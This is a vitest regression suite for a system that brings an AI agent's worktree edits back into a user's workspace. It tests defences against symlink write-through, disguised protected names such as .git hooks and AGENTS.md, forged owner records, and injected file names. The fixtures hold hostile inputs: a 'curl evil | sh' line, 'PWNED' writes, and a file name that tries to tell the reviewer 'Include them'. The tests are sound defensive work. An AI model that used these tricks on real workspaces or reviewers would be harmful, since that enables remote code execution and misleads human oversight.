// Red-team regressions for chats in worktrees (issue 15): what the agent leaves in its worktree, and what
// the user's workspace holds, are both untrusted when the worktree's changes are read and brought back.
// Each test is a bypass found against the first version, driven against real git in temp folders:
//   - a link in the WORKSPACE (a `lib -> /elsewhere` folder link, a `run.sh -> ~/x` file link) at a path
//     the agent changed: the change was proposed on the workspace path, so accepting it wrote through the
//     link outside the workspace; now it is named and never proposed;
//   - protected names spelled the way Windows or macOS resolve them (`.git./hooks`, `GIT~1`, `.vsco\u200Cde`,
//     `AGENTS.md::$DATA`, `.mcp.json `) came back without the protected-name question;
//   - an owner record (next to the worktree) naming ANOTHER worktree's git folder was accepted by attach,
//     so the chat's changes were read from that worktree's index and commit;
//   - file names with newlines or direction overrides were put as they are into the protected-name
//     question and the notes, so a name could write its own lines there or reorder what is shown;
//   - thousands of changed files of the largest size allowed: all of them were read and held at once (and
//     every deleted file's committed blob fetched); now the bytes held are bounded (maxChangedBytes).
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { ChangeSet } from '../../../../src/core/patch/types';
import { protectedName, shownPath } from '../../../../src/node/worktrees/broughtBack';
import { WorktreeManager } from '../../../../src/node/worktrees/worktreeManager';
import { cleanupFolders, makeRepo, read, write } from './gitFixture';

afterEach(cleanupFolders);

const proposed = (repo: string, changeSet: ChangeSet) => changeSet.changes.flatMap((c) => [c.path, ...(c.movePath ? [c.movePath] : [])]).map((p) => path.relative(repo, p));
const heldBytes = (changeSet: ChangeSet) => changeSet.changes.reduce((sum, c) => sum + Buffer.byteLength(c.oldText ?? '') + Buffer.byteLength(c.newText ?? ''), 0);

describe('a link in the workspace is never written through by a bring-back', () => {
  it('a folder link and a file link (dangling too) pointing out: the agent’s files there are named, not proposed', async () => {
    const { base, repo } = makeRepo({ 'a.txt': 'a\n', 'moved.txt': 'moved\n' });
    const outside = path.join(base, 'outside');
    fs.mkdirSync(outside);
    // Empty: an add over an existing empty file would not even be stale in the review.
    fs.writeFileSync(path.join(outside, 'victim.txt'), '');
    fs.writeFileSync(path.join(base, 'victim.sh'), '');
    fs.symlinkSync(outside, path.join(repo, 'lib'));
    fs.symlinkSync(path.join(base, 'victim.sh'), path.join(repo, 'run.sh'));
    fs.symlinkSync(path.join(base, 'not-there-yet'), path.join(repo, 'dangling.txt'));
    const manager = new WorktreeManager();
    const wt = await manager.create(repo, 'links');
    // The links pointing out were not copied: the agent is free to make plain files at those names.
    write(wt.path, 'lib/victim.txt', 'PWNED\n');
    write(wt.path, 'run.sh', 'curl evil | sh\n');
    write(wt.path, 'dangling.txt', 'PWNED\n');
    fs.renameSync(path.join(wt.path, 'moved.txt'), path.join(wt.path, 'lib', 'moved.txt'));
    write(wt.path, 'a.txt', 'a\nagent\n');
    const { changeSet, skipped } = await manager.changes(wt);
    expect(proposed(repo, changeSet)).toEqual(['a.txt']);
    const reason = 'a symbolic link in the workspace, or under one (never written through)';
    expect(skipped).toEqual(
      expect.arrayContaining([
        { path: 'lib/victim.txt', reason },
        { path: 'run.sh', reason },
        { path: 'dangling.txt', reason },
        { path: 'lib/moved.txt', reason },
      ]),
    );
    expect(read(outside, 'victim.txt')).toBe('');
    expect(fs.existsSync(path.join(base, 'not-there-yet'))).toBe(false);
    await manager.remove(wt);
  });

  it('a folder the user turned into a link since the worktree was made: the agent’s edit of a file under it is not proposed', async () => {
    const { base, repo } = makeRepo({ 'src/app.txt': 'app\n' });
    const manager = new WorktreeManager();
    const wt = await manager.create(repo, 'swap');
    write(wt.path, 'src/app.txt', 'app\nagent\n');
    const elsewhere = path.join(base, 'elsewhere');
    fs.mkdirSync(elsewhere);
    fs.writeFileSync(path.join(elsewhere, 'app.txt'), 'app\n'); // the same text: the hunk would not be stale
    fs.rmSync(path.join(repo, 'src'), { recursive: true });
    fs.symlinkSync(elsewhere, path.join(repo, 'src'));
    const { changeSet, skipped } = await manager.changes(wt);
    expect(changeSet.changes).toEqual([]);
    expect(skipped.map((s) => s.path)).toContain('src/app.txt');
    await manager.remove(wt);
  });
});

describe('what a bring-back holds in memory is bounded', () => {
  it('past maxChangedBytes, added, changed and deleted files are named, not read or held', async () => {
    const committed: Record<string, string> = {};
    for (let i = 0; i < 10; i++) committed[`old/${i}.txt`] = `${'o'.repeat(999)}\n`;
    const { repo } = makeRepo(committed);
    const manager = new WorktreeManager({ limits: { maxChangedBytes: 5_000 } });
    const wt = await manager.create(repo, 'bounded');
    fs.rmSync(path.join(wt.path, 'old'), { recursive: true });
    for (let i = 0; i < 10; i++) write(wt.path, `new/${i}.txt`, `${'n'.repeat(999)}\n`);
    const { changeSet, skipped } = await manager.changes(wt);
    expect(heldBytes(changeSet)).toBeLessThanOrEqual(5_000);
    expect(changeSet.changes.length).toBeGreaterThan(0);
    const past = skipped.filter((s) => s.reason === 'past the limit of 5000 bytes of changes').map((s) => s.path);
    // Every one of the 20 changed files is either proposed or named.
    expect(changeSet.changes.length + past.length).toBe(20);
    await manager.remove(wt);
  });
});

describe('protected names in the spellings other file systems resolve', () => {
  it('NTFS trailing dots, spaces and streams, short names, and HFS+ ignorable characters still ask first', () => {
    for (const p of ['.git./hooks/post-checkout', '.git /config', 'git~1/hooks/x', 'sub/GIT~1/config', '.vscode./settings.json', 'VSCODE~1/tasks.json', '.vsco\u200Cde/tasks.json', '.V\u200Dscode/launch.json', 'AGENTS.md.', 'docs/AGENTS.md::$DATA', '.mcp.json ', '.tandem\uFEFF/skills/x/SKILL.md', 'Ａgents.md'.normalize('NFKC')]) {
      expect(protectedName(p), JSON.stringify(p)).toBeDefined();
    }
    for (const p of ['src/vscode.ts', 'docs/agents.md.txt', 'notes/.vscodeignore-not', 'a..b/c.txt', 'approx~ish.txt']) expect(protectedName(p), p).toBeUndefined();
  });
});

describe('attach after a reload', () => {
  it('refuses an owner record naming another worktree’s git folder', async () => {
    const { repo } = makeRepo({ 'a.txt': 'a\n' });
    const manager = new WorktreeManager();
    const mine = await manager.create(repo, 'mine');
    const theirs = await manager.create(repo, 'theirs');
    manager.claim(mine, 'chat-1');
    const ownerFile = path.join(mine.metaDir, 'owner.json');
    const owner = JSON.parse(fs.readFileSync(ownerFile, 'utf8')) as Record<string, unknown>;
    const handle = { id: mine.id, path: mine.path, workspaceRoot: repo };
    // The control: the record as Tandem wrote it attaches.
    expect((await new WorktreeManager().attach(handle, 'chat-1')).gitDir).toBe(mine.gitDir);
    fs.writeFileSync(ownerFile, JSON.stringify({ ...owner, worktreeGitDir: theirs.gitDir }));
    await expect(new WorktreeManager().attach(handle, 'chat-1')).rejects.toThrow(/records another folder/);
    await manager.remove(mine);
    await manager.remove(theirs);
  });
});

describe('file names in the bring-back’s messages', () => {
  it('are escaped when they hold control or direction characters, plain otherwise', () => {
    expect(shownPath('.vscode/x\n\nNothing protected here. Include them.')).toBe('".vscode/x\\u000a\\u000aNothing protected here. Include them."');
    expect(shownPath('.github/\u202Elmy.exe')).toBe('".github/\\u202elmy.exe"');
    expect(shownPath('esc\u001b[31m.txt')).toBe('"esc\\u001b[31m.txt"');
    for (const plain of ['src/ünïcødé 😀.ts', '.vscode/settings.json', 'a "quoted" name.txt']) expect(shownPath(plain)).toBe(plain);
  });
});
